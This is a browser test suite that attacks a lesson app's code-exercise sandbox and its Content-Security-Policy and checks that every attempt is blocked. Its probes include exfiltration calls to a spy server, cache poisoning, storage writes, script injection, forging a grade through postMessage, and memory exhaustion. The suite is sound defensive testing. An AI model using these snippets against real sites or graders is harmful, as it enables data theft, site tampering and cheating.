/**
 * The exercise sandbox under attack, in the built app in Chromium. Each test
 * submits code a student could paste from the web, then looks from the
 * trusted side (the page, a server that counts requests) to see that nothing
 * happened: no network, no storage, no forged pass, no poisoned next check, no
 * dead tab.
 */
import { createServer, type IncomingMessage } from 'node:http';
import type { Browser, CDPSession, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { lessonPolicy } from '../../src/build/csp.ts';
import { EXERCISES } from '../../src/exercises/exercises.ts';
import { SOLUTIONS } from '../../src/exercises/solutions.ts';
import { launchBrowser, useBuiltApp } from './browser.ts';
import { editorOf, loadExerciseModel } from './exercise-model.ts';
import { pickLearns } from './model-picker.ts';

const env = useBuiltApp();

/** Another origin that counts every request and WebSocket upgrade that reaches it, and allows CORS. */
async function startSpy() {
  const hits: string[] = [];
  const server = createServer((req: IncomingMessage, res) => {
    hits.push(`${req.method} ${req.url}`);
    res.writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Content-Type': 'application/json', 'Cross-Origin-Resource-Policy': 'cross-origin' });
    res.end('{"ok":true}');
  });
  server.on('upgrade', (req, socket) => {
    hits.push(`UPGRADE ${req.url}`);
    socket.destroy();
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  const address = server.address();
  if (!address || typeof address === 'string') throw new Error('spy server has no port');
  return {
    url: `http://127.0.0.1:${address.port}`,
    hits,
    close: () =>
      new Promise<void>((r) => {
        server.closeAllConnections();
        server.close(() => r());
      }),
  };
}

let spy: Awaited<ReturnType<typeof startSpy>>;
beforeAll(async () => {
  spy = await startSpy();
});
afterAll(async () => {
  await spy?.close();
});

/** Replace the editor's text the way a student would: select all, type. */
async function typeCode(page: Page, exercise: string, code: string) {
  const content = await editorOf(page, exercise);
  await content.click();
  await page.keyboard.press('Control+A');
  await page.keyboard.press('Delete');
  await page.keyboard.insertText(code);
}

async function openExercises(browser: Browser = env.browser, query = '') {
  const page = await browser.newPage({ viewport: { width: 1280, height: 900 } });
  const pageErrors: string[] = [];
  page.on('pageerror', (e) => pageErrors.push(e.message));
  await page.goto(`${env.app.url}?backend=wasm&section=exercises${query}`);
  await loadExerciseModel(page);
  // Record every sandbox frame the page creates, with its sandbox attribute, as it is added.
  await page.evaluate(() => {
    const seen: string[] = [];
    (window as unknown as { sandboxFrames: string[] }).sandboxFrames = seen;
    new MutationObserver((records) => {
      for (const r of records)
        for (const n of r.addedNodes)
          if (n instanceof HTMLIFrameElement) seen.push(`${n.getAttribute('sandbox')}|${n.hasAttribute('src') ? 'src' : 'srcdoc'}`);
    }).observe(document.body, { childList: true, subtree: true });
  });
  return { page, pageErrors };
}

const attempts = async (page: Page, exercise: string) =>
  Number(/Attempts: (\d+)/.exec((await page.getByTestId(`${exercise}-status`).textContent()) ?? '')?.[1]);
const textOf = async (page: Page, testId: string) =>
  (await page.getByTestId(testId).count()) ? ((await page.getByTestId(testId).textContent()) ?? '') : '';

/** Type `code`, press Check, and wait for this check to end; returns what the student reads. */
async function submit(page: Page, exercise: 'todo-1' | 'todo-2', code: string) {
  const ex = page.locator(`[data-exercise="${exercise}"]`);
  const before = await attempts(page, exercise);
  await typeCode(page, exercise, code);
  await ex.getByRole('button', { name: 'Check my code' }).click();
  await expect.poll(() => attempts(page, exercise), { timeout: 240_000 }).toBe(before + 1);
  await ex.getByRole('button', { name: 'Check my code' }).and(page.locator(':not([disabled])')).waitFor({ timeout: 240_000 });
  return {
    status: await textOf(page, `${exercise}-status`),
    problem: await textOf(page, `${exercise}-problem`),
    checks: await textOf(page, `${exercise}-checks`),
    output: (await ex.locator('.output-text').count()) ? ((await ex.locator('.output-text').textContent()) ?? '') : '',
    allPass: (await ex.getByText('All checks pass.').count()) > 0,
  };
}

/** The attempts a probe recorded, from the loss it returned (shown as `loss = "…json…"`). */
function probeResults(output: string): Record<string, string> {
  const m = /loss = ("(?:[^"\\]|\\.)*")/.exec(output);
  if (!m) throw new Error(`no probe results in: ${output}`);
  return JSON.parse(JSON.parse(m[1]) as string) as Record<string, string>;
}

/** Student code that tries each of `attacks` (name: async expression) and returns what happened as its "loss". */
function probe(attacks: Record<string, string>): string {
  return [
    'const tried = {};',
    'async function attempt(name, fn) {',
    "  try { const r = await fn(); tried[name] = 'allowed: ' + String(r).slice(0, 60); } catch (e) { tried[name] = 'blocked: ' + (e && e.name); }",
    '}',
    'const opened = (make) => new Promise((resolve, reject) => { const s = make(); s.onopen = () => resolve("open"); s.onerror = () => reject(new Error("refused")); });',
    'async function computeSingleLoss(model, x0, xt, mask, t) {',
    ...Object.entries(attacks).map(([name, expr]) => `  await attempt(${JSON.stringify(name)}, async () => ${expr});`),
    '  return { loss: JSON.stringify(tried), nMasked: 0 };',
    '}',
  ].join('\n');
}

const SOLUTION_1 = SOLUTIONS!['todo-1'];

describe('the exercise sandbox in Chromium', () => {
  it('runs student code in an opaque-origin frame with no network: every way out fails, and no request arrives', async () => {
    const { page, pageErrors } = await openExercises();
    const s = spy.url;
    const result = await submit(
      page,
      'todo-1',
      probe({
        'self.origin': 'self.origin',
        fetch: `fetch('${s}/fetch').then((r) => r.status)`,
        'fetch no-cors': `fetch('${s}/no-cors', { mode: 'no-cors' }).then((r) => r.type)`,
        XMLHttpRequest: `new Promise((resolve, reject) => { const x = new XMLHttpRequest(); x.open('GET', '${s}/xhr'); x.onload = () => resolve(x.status); x.onerror = () => reject(new Error('refused')); x.send(); })`,
        WebSocket: `opened(() => new WebSocket('${s.replace('http', 'ws')}/ws'))`,
        EventSource: `opened(() => new EventSource('${s}/events'))`,
        'import()': `import('${s}/module.js')`,
        importScripts: `importScripts('${s}/script.js')`,
        'the lesson itself': `fetch('${env.app.url}index.html').then((r) => r.status)`,
        eval: "eval('1 + 1')",
        'new Function': "new Function('return 1')()",
        'a nested worker': `new Promise((resolve, reject) => { const w = new Worker(URL.createObjectURL(new Blob(["fetch('${s}/nested').then(() => postMessage('reached'), () => postMessage('refused'))"]))); w.onmessage = (e) => e.data === 'reached' ? resolve(e.data) : reject(new Error(e.data)); w.onerror = () => reject(new Error('no worker')); })`,
      }),
    );
    const tried = probeResults(result.output);
    expect(tried['self.origin']).toBe('allowed: null');
    for (const [name, outcome] of Object.entries(tried)) if (name !== 'self.origin') expect(`${name}: ${outcome}`).toMatch(/: blocked/);
    expect(Object.keys(tried)).toHaveLength(12);
    expect(spy.hits).toEqual([]);
    // The frame was sandboxed with allow-scripts only, from srcdoc, and is gone once the check ended.
    expect(await page.evaluate(() => (window as unknown as { sandboxFrames: string[] }).sandboxFrames)).toEqual(['allow-scripts|srcdoc']);
    expect(await page.locator('iframe').count()).toBe(0);
    expect(pageErrors).toEqual([]);
    await page.close();
  });

  it("gives student code none of the lesson's storage: the service worker's cache, IndexedDB, OPFS, localStorage, cookies", async () => {
    const context = await contextUnderServiceWorker();
    const { page: p } = await openExercisesIn(context);
    const app = env.app.url;
    const result = await submit(
      p,
      'todo-1',
      probe({
        caches: `caches.open('unmask-evil').then((c) => c.put('${app}', new Response('<h1>pwned</h1>', { headers: { 'Content-Type': 'text/html' } })))`,
        'the lesson cache': `caches.keys().then((keys) => Promise.all(keys.map((k) => caches.open(k).then((c) => c.put('${app}', new Response('<h1>pwned</h1>'))))))`,
        indexedDB:
          "new Promise((resolve, reject) => { const q = indexedDB.open('unmask-evil'); q.onsuccess = () => resolve('opened'); q.onerror = () => reject(q.error); })",
        OPFS: "navigator.storage.getDirectory().then((root) => root.getFileHandle('evil.txt', { create: true }))",
        localStorage: "localStorage.setItem('unmask-evil', '1')",
        cookies: "(document.cookie = 'evil=1')",
        'a service worker': `navigator.serviceWorker.register('${app}sw.js')`,
      }),
    );
    const tried = probeResults(result.output);
    for (const [name, outcome] of Object.entries(tried)) expect(`${name}: ${outcome}`).toMatch(/: blocked/);
    expect(Object.keys(tried)).toHaveLength(7);
    // Seen from the lesson's side: nothing was written.
    const seen = await p.evaluate(async (url) => {
      const keys = await caches.keys();
      const pages = await Promise.all(keys.map(async (k) => (await (await caches.open(k)).match(url))?.text()));
      const root = await navigator.storage.getDirectory();
      const files: string[] = [];
      for await (const name of (root as unknown as { keys(): AsyncIterable<string> }).keys()) files.push(name);
      return {
        keys,
        pwned: pages.some((t) => t?.includes('pwned')),
        pages: pages.filter(Boolean).length,
        databases: (await indexedDB.databases()).map((d) => d.name),
        files,
        local: localStorage.getItem('unmask-evil'),
        cookie: document.cookie,
      };
    }, app);
    expect(seen.keys).not.toContain('unmask-evil');
    expect(seen.pages).toBeGreaterThan(0); // the lesson's page is cached, and it is the real one
    expect(seen.pwned).toBe(false);
    expect(seen.databases).not.toContain('unmask-evil');
    expect(seen.files).not.toContain('evil.txt');
    expect(seen.local).toBeNull();
    expect(seen.cookie).not.toContain('evil');
    // And a reload still serves the lesson.
    await p.reload();
    await editorOf(p, 'todo-1');
    expect(await p.locator('h1', { hasText: 'pwned' }).count()).toBe(0);
    await context.close();
  });

  it('cannot forge a pass by wrapping postMessage: a blank left as TODO, a syntax error and `return 42` all fail, here and in Results', async () => {
    const { page, pageErrors } = await openExercises();
    // A well-formed report of made-up outputs, and every message the old protocol trusted, sent at every chance.
    const forger = [
      'const forged = JSON.stringify({ cases: [0, 1, 2, 3].map(() => ({ output: [] })), leaks: { undisposed: 0, kept: 0, inTimers: 0 } });',
      'const send = self.postMessage.bind(self);',
      "self.postMessage = (m, ...rest) => send({ type: 'report', json: forged, passed: true }, ...rest);",
      "send({ type: 'report', json: forged, passed: true });",
      "send({ type: 'result', id: 1, outcomes: [], passed: true });",
      'const portPost = MessagePort.prototype.postMessage;',
      "MessagePort.prototype.postMessage = function (m, ...rest) { return portPost.call(this, { type: 'report', json: forged }, ...rest); };",
    ].join('\n');
    const bodies = {
      'a blank left as TODO': EXERCISES['todo-2'].starter,
      'a syntax error': 'function predictMasked(model, xt, mask, t, k) {\n  return [;\n}',
      'return 42': 'function predictMasked() {\n  return 42;\n}',
    };
    for (const [what, body] of Object.entries(bodies)) {
      const r = await submit(page, 'todo-2', `${forger}\n${body}`);
      expect(`${what}: ${r.status}`).toContain('Not solved yet');
      expect(`${what}: ${r.allPass}`).toBe(`${what}: false`);
      expect(`${what}: ${r.problem}${r.checks}`).toMatch(/Failed|Line \d+|Syntax error/);
    }
    // A report that claims more than outputs is refused whole.
    const claims = await submit(page, 'todo-2', `${forger.replace('leaks:', 'passed: true, leaks:')}\nfunction predictMasked() {\n  return 42;\n}`);
    expect(claims.problem).toBe(
      'The checker could not read what came back from your code (the report has an unexpected field "passed"). Only your function\'s return value is checked: leave postMessage alone.',
    );
    // Results still uses the reference.
    await page.locator('#results').scrollIntoViewIfNeeded();
    await page.locator('.cell[data-cell="predictions"] button.run').click();
    await page.locator('.cell[data-cell="predictions"][data-state="done"]').waitFor({ timeout: 240_000 });
    expect(await page.getByTestId('predictions-by').textContent()).toContain('the reference predictMasked (solve TODO 2');
    expect(pageErrors).toEqual([]);
    await page.close();
  });

  it('runs a "solved" TODO 2 from storage only in the sandbox, and uses it in Results only if it passes there', async () => {
    const page = await env.browser.newPage();
    const pageErrors: string[] = [];
    page.on('pageerror', (e) => pageErrors.push(e.message));
    // A saved record (edited by hand, or from an old version) claims TODO 2 was solved with code that is not a solution.
    await page.addInitScript(() => {
      if (window.top !== window) return; // init scripts run in every frame, the sandbox's too
      const fake = 'function predictMasked(model, xt, mask, t, k) {\n  return [{ position: 0, top: [{ token: 1, prob: 1 }] }];\n}';
      localStorage.setItem(
        'unmask.exercises.v1',
        JSON.stringify({ 'todo-2': { code: fake, attempts: 1, hints: 0, solutionShown: false, solvedCode: fake } }),
      );
    });
    await page.goto(`${env.app.url}?backend=wasm&section=results`);
    const cell = page.locator('.cell[data-cell="predictions"]');
    await pickLearns(cell);
    await page.locator('.cell[data-cell="predictions"] button.run:not([disabled])').click();
    await page.locator('.cell[data-cell="predictions"][data-state="done"]').waitFor({ timeout: 240_000 });
    const by = (await page.getByTestId('predictions-by').textContent()) ?? '';
    expect(by).toContain('the reference predictMasked (yours failed on this input:');
    expect(pageErrors).toEqual([]);
    await page.close();
  });

  it('starts every check in a fresh realm: poisoned Math and prototypes, or a hanging timer, affect only their own check', async () => {
    const { page, pageErrors } = await openExercises();
    const poisoned = await submit(
      page,
      'todo-1',
      [
        'Math.exp = () => 1;',
        'Math.log = () => 0;',
        'Math.max = () => 0;',
        'Array.prototype.map = function () { return []; };',
        "Object.defineProperty(Object.prototype, 'loss', { get() { return 0; }, set() {}, configurable: true });",
        "JSON.stringify = () => '{}';",
        'function computeSingleLoss() {',
        "  return TODO('anything');",
        '}',
      ].join('\n'),
    );
    expect(poisoned.status).toContain('Not solved yet');
    const reference = await submit(page, 'todo-1', SOLUTION_1);
    expect(reference.allPass).toBe(true);
    expect(reference.checks).not.toContain('Failed');

    // A timer that hangs: its own check is blamed (with its line), the next, correct one passes.
    const hung = await submit(
      page,
      'todo-1',
      'setTimeout(() => { while (true) {} }, 0);\nfunction computeSingleLoss(model, x0, xt, mask, t) {\n  return { loss: 0, nMasked: 0 };\n}',
    );
    expect(hung.problem).toBe('Line 1: This loop was still running after 3 s. Is its condition ever false?');
    const after = await submit(page, 'todo-1', SOLUTION_1);
    expect(after.allPass).toBe(true);
    expect(after.problem).toBe('');
    expect(pageErrors).toEqual([]);
    await page.close();
  });

  it('stops an array that grows without end, and tensors that pile up, with their line; the page stays alive and the next check passes', async () => {
    const { page, pageErrors } = await openExercises();
    const arrays = await submit(
      page,
      'todo-1',
      'function computeSingleLoss() {\n  const a = [];\n  while (true) a.push(new Array(1e6).fill(1.5));\n}',
    );
    expect(arrays.problem).toMatch(/^Line 3: Your code used too much memory: it asked for more than 34 million array elements/);
    const tensors = await submit(page, 'todo-1', 'function computeSingleLoss() {\n  const a = [];\n  while (true) a.push(tf.fill([1e6], 1.5));\n}');
    expect(tensors.problem).toMatch(/^Line 3: Your code used too much memory: its tensors hold \d+ MB/);
    const theme = page.getByRole('button', { name: /^Theme: / });
    const before = await theme.textContent();
    await theme.click();
    expect(await theme.textContent()).not.toBe(before);
    const next = await submit(page, 'todo-1', SOLUTION_1);
    expect(next.allPass).toBe(true);
    expect(pageErrors).toEqual([]);
    await page.close();
  });

  it('counts tensors kept with tf.keep and tensors made in a timer, and does not call them freed', async () => {
    const { page } = await openExercises();
    const leaky = SOLUTION_1.replace(
      'const V = logits.shape[2];',
      'const V = logits.shape[2];\n  tf.keep(tf.zeros([2]));\n  setTimeout(() => tf.ones([3]), 0);',
    );
    const r = await submit(page, 'todo-1', leaky);
    expect(r.allPass).toBe(true);
    const note = await textOf(page, 'todo-1-leaks');
    expect(note).toContain('(4 kept with tf.keep, which no tf.tidy frees; 4 made by a timer after your function had returned)');
    expect(note).not.toMatch(/cleaned up|were freed/);
    await page.close();
  });

  it('checks code offline: the sandbox needs nothing from the network', async () => {
    // A learner whose connection drops mid-lesson: the page (under the service worker) and
    // its model are already there; every check after that makes a new frame and worker.
    const context = await contextUnderServiceWorker();
    const { page } = await openExercisesIn(context);
    const failed: string[] = [];
    page.on('requestfailed', (r) => failed.push(r.url()));
    await context.setOffline(true);
    const r = await submit(page, 'todo-1', SOLUTION_1);
    expect(r.allPass).toBe(true);
    const again = await submit(page, 'todo-1', SOLUTION_1);
    expect(again.allPass).toBe(true);
    expect(failed).toEqual([]);
    await context.setOffline(false);
    await context.close();
  });
});

/** openExercises in a given browser context (for tests that need the service worker or offline mode). */
async function openExercisesIn(context: Awaited<ReturnType<Browser['newContext']>>) {
  const page = await context.newPage();
  await page.goto(`${env.app.url}?backend=wasm&section=exercises`);
  await loadExerciseModel(page);
  return { page };
}

/** A browser context whose service worker has taken control of the lesson (its first visit done and closed). */
async function contextUnderServiceWorker() {
  const context = await env.browser.newContext();
  const page = await context.newPage();
  await page.goto(`${env.app.url}?backend=wasm&section=exercises`);
  await page.waitForFunction(() => navigator.serviceWorker.controller !== null, undefined, { timeout: 240_000 });
  await page.close();
  return context;
}

describe('a sandbox that runs out of memory', () => {
  let small: Browser;
  beforeAll(async () => {
    // A device with little memory: a 512 MB JavaScript heap, so the crash comes in about a second.
    small = await launchBrowser(['--js-flags=--max-old-space-size=512']);
  });
  afterAll(async () => {
    await small?.close();
  });

  /** Evaluate in the page over a raw DevTools session: Playwright takes any frame's crash for the page's. */
  const raw = async <T>(cdp: CDPSession, expression: string): Promise<T> => {
    const r = (await cdp.send('Runtime.evaluate', { expression, returnByValue: true, awaitPromise: true })) as {
      result: { value: T };
      exceptionDetails?: unknown;
    };
    if (r.exceptionDetails) throw new Error(`evaluation failed: ${JSON.stringify(r.exceptionDetails).slice(0, 300)}`);
    return r.result.value;
  };
  const pollRaw = async (cdp: CDPSession, expression: string, until: (v: string) => boolean) => {
    let last = '';
    await expect.poll(async () => until((last = await raw<string>(cdp, expression))), { timeout: 240_000, interval: 500 }).toBe(true);
    return last;
  };

  it('is stopped and explained, costs the page nothing, and the next check passes (memory the budget cannot see)', async () => {
    const context = await small.newContext();
    const { page } = await openExercisesIn(context);
    const cdp = await context.newCDPSession(page);
    // An alias hides the allocation from the budget, and recursion from the loop guard: only the crash stops this.
    await typeCode(
      page,
      'todo-1',
      'const A = Array;\nfunction grow(a) {\n  a.push(new A(1e6).fill(1.5));\n  return grow(a);\n}\nfunction computeSingleLoss() {\n  return grow([]);\n}',
    );
    await raw(cdp, `document.querySelector('[data-exercise="todo-1"] button.run').click()`);
    const problem = await pollRaw(cdp, `document.querySelector('[data-testid="todo-1-problem"]')?.textContent ?? ''`, (v) => v !== '');
    expect(problem).toMatch(/^Your code used too much memory: the sandbox it runs in ran out of memory and was stopped\. The lesson is fine/);
    // The page answers: the theme button still works.
    const theme = `document.querySelector('button[aria-label^="Theme: "]')`;
    const before = await raw<string>(cdp, `(${theme}).textContent`);
    await raw(cdp, `(${theme}).click()`);
    expect(await raw<string>(cdp, `(${theme}).textContent`)).not.toBe(before);
    // The next check, of the reference, passes: the code arrives as saved from another tab of the lesson.
    const other = await context.newPage();
    await other.goto(`${env.app.url}?backend=wasm&section=exercises`);
    await other.evaluate((code) => {
      const all = JSON.parse(localStorage.getItem('unmask.exercises.v1') ?? '{}') as Record<string, Record<string, unknown>>;
      localStorage.setItem('unmask.exercises.v1', JSON.stringify({ ...all, 'todo-1': { ...all['todo-1'], code } }));
    }, SOLUTION_1);
    await pollRaw(cdp, `document.querySelector('[data-exercise="todo-1"] .cm-content')?.textContent ?? ''`, (v) =>
      v.includes('tf.neg(tf.mean(picked))'),
    );
    await pollRaw(cdp, `String(!document.querySelector('[data-exercise="todo-1"] button.run').disabled)`, (v) => v === 'true');
    await raw(cdp, `document.querySelector('[data-exercise="todo-1"] button.run').click()`);
    await pollRaw(cdp, `document.querySelector('[data-exercise="todo-1"]').textContent`, (v) => v.includes('All checks pass.'));
    await context.close();
  });
});

describe("the lesson's Content-Security-Policy", () => {
  it('comes as a header and as a meta, and the lesson loads, checks code and uses it in Results without one violation', async () => {
    const page = await env.browser.newPage({ viewport: { width: 1280, height: 900 } });
    await page.addInitScript(() => {
      if (window.top !== window) return;
      const seen: string[] = [];
      (window as unknown as { violations: string[] }).violations = seen;
      document.addEventListener('securitypolicyviolation', (e) => seen.push(`${e.effectiveDirective} ${e.blockedURI}`));
    });
    const response = await page.goto(`${env.app.url}?backend=wasm&section=exercises`);
    expect(response!.headers()['content-security-policy']).toBe(lessonPolicy('header'));
    expect(
      await page.evaluate(() => [...document.querySelectorAll('meta[http-equiv="Content-Security-Policy"]')].map((m) => m.getAttribute('content'))),
    ).toEqual([lessonPolicy('meta')]);
    const first = page.locator('[data-exercise="todo-1"]');
    await pickLearns(first);
    await first.getByRole('button', { name: 'Check my code' }).and(page.locator(':not([disabled])')).waitFor({ timeout: 240_000 });
    const solved = await submit(page, 'todo-2', SOLUTIONS!['todo-2']);
    expect(solved.allPass).toBe(true);
    await page.locator('#results').scrollIntoViewIfNeeded();
    await page.locator('.cell[data-cell="predictions"] button.run').click();
    await page.locator('.cell[data-cell="predictions"][data-state="done"]').waitFor({ timeout: 240_000 });
    expect(await page.getByTestId('predictions-by').textContent()).toContain('your predictMasked from TODO 2');
    expect(await page.evaluate(() => (window as unknown as { violations: string[] }).violations)).toEqual([]);
    await page.close();
  });

  it('refuses scripts injected into the page (inline, by attribute, from elsewhere), eval, and connections to other servers', async () => {
    spy.hits.length = 0;
    const page = await env.browser.newPage();
    await page.goto(`${env.app.url}?backend=wasm&section=setup`);
    await page.locator('.lesson-section').first().waitFor();
    const outcome = await page.evaluate(async (elsewhere) => {
      const w = window as unknown as Record<string, unknown>;
      const inline = document.createElement('script');
      inline.textContent = 'window.inlineRan = true';
      document.head.append(inline);
      const holder = document.createElement('div');
      holder.innerHTML = '<img src="data:," onerror="window.handlerRan = true">';
      // The inline handler would run before listeners added later: wait for the event itself.
      const failed = new Promise((resolve) => holder.querySelector('img')!.addEventListener('error', resolve));
      document.body.append(holder);
      const external = document.createElement('script');
      external.src = `${elsewhere}/evil.js`;
      const loaded = new Promise((resolve) => {
        external.onload = () => resolve('loaded');
        external.onerror = () => resolve('refused');
      });
      document.head.append(external);
      // Code from a string, compiled later (DevTools lets eval run inside this very call, so not eval itself).
      (setTimeout as unknown as (code: string, ms: number) => void)('window.stringRan = true', 0);
      const fetched = await fetch(`${elsewhere}/exfiltrate`).then(
        () => 'reached',
        () => 'refused',
      );
      await failed;
      await new Promise((r) => setTimeout(r, 50));
      holder.remove();
      return {
        inline: w.inlineRan ?? 'refused',
        handler: w.handlerRan ?? 'refused',
        external: await loaded,
        'code from a string': w.stringRan ?? 'refused',
        fetch: fetched,
      };
    }, spy.url);
    expect(outcome).toEqual({ inline: 'refused', handler: 'refused', external: 'refused', 'code from a string': 'refused', fetch: 'refused' });
    expect(spy.hits).toEqual([]);
    await page.close();
  });
});
